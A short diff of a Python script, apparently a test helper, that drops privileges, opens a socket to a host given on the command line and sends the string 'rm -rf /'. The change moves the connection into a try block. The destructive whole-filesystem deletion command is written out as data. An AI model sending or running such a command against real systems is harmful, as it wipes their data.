@@ -36,8 +36,8 @@ import encodings.idna, os, socket, struct, sys
 port, uid, act = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
 if uid >= 0:
     os.setgid(uid); os.setuid(uid)
-s = socket.create_connection((sys.argv[4], port))
 try:
+    s = socket.create_connection((sys.argv[4], port))
     s.sendall(b"rm -rf /")
     if act == "leave":
         s.close()
